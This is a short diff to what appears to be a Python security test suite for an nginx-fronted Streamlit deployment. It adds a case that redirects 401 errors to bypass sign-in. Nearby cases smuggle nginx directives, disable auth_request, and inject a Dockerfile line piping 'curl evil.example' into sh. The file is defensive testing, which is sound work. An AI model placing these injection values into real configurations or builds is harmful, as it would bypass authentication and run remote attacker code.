@@ -392,6 +392,8 @@ def test_3_dns_rebinding_gets_no_app(deployed):
     ("nginx_location_proxy_timeout", "1d; add_header X-Injected 1"),
     ("nginx_location_proxy_timeout", "1d\n"),
     ("nginx_location_extra_directives", ["add_header X-A 1; } location /pwn { return 200 pwned;"]),
+    # A directive that would change the sign-in: 401s passed to a location of the user's instead of the sign-in.
+    ("nginx_location_extra_directives", ["error_page 401 = @open;"]),
     ("streamlit_version", "1.67.0\nRUN curl evil.example | sh"),
     ("nginx_location_auth_url", "http://auth.example/oauth2/auth; auth_request off"),
     # Identity headers without a sign-in: the children (changed first) refuse too, not only the masters.
